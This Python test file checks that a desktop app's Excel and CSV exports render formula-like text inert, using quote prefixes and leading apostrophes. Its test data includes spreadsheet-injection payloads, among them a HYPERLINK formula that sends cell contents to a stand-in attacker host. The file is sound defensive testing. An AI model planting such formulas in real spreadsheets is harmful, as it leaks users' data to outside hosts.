"""No spreadsheet injection: a text cell that a spreadsheet would read as a formula is written as inert text in
every Excel and CSV file Rasad writes (issue 10, "Why" 6)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.exports.cells import csv_text, write_csv_rows
from desktop.exports.excel import Sheet, write_workbook
from desktop.imports.problems import ImportProblem
from desktop.imports.service import ImportService

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")'
DANGEROUS = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_like_text_goes_into_excel_as_text_shown_as_written(tmp_path: Path, value: str) -> None:
    path = write_workbook(tmp_path / "t.xlsx", [Sheet("s", ("name", "n"), [(value, 5), ("شعبه ۱", -3)])])
    sheet = load_workbook(path).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    # Depending on the XML parser a carriage return may come back as a line feed.
    assert cell.value in (value, value.replace("\r", "\n"))
    assert sheet["B2"].value == 5 and sheet["B3"].value == -3  # numbers stay numbers, negative ones too
    assert sheet["A3"].data_type == "s" and not sheet["A3"].quotePrefix


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_like_text_goes_into_csv_behind_an_apostrophe(value: str) -> None:
    assert csv_text(value) == "'" + value
    buffer = io.StringIO()
    write_csv_rows(buffer, ("name", "n"), [(value, -3), ("شعبه ۱", 2.5)])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[1] == ["'" + value, "-3"] and rows[2] == ["شعبه ۱", "2.5"]


def test_a_saved_problem_list_cannot_carry_a_formula(tmp_path: Path) -> None:
    target = tmp_path / "problems.csv"
    problem = ImportProblem("=cmd.csv", 2, "@col", "{value} is bad", {"value": "=1+1"})
    ImportService.save_problems([problem], target, lambda context, text, params: text.format(**params))
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[1] == ["'=cmd.csv", "2", "'@col", "'=1+1 is bad"]
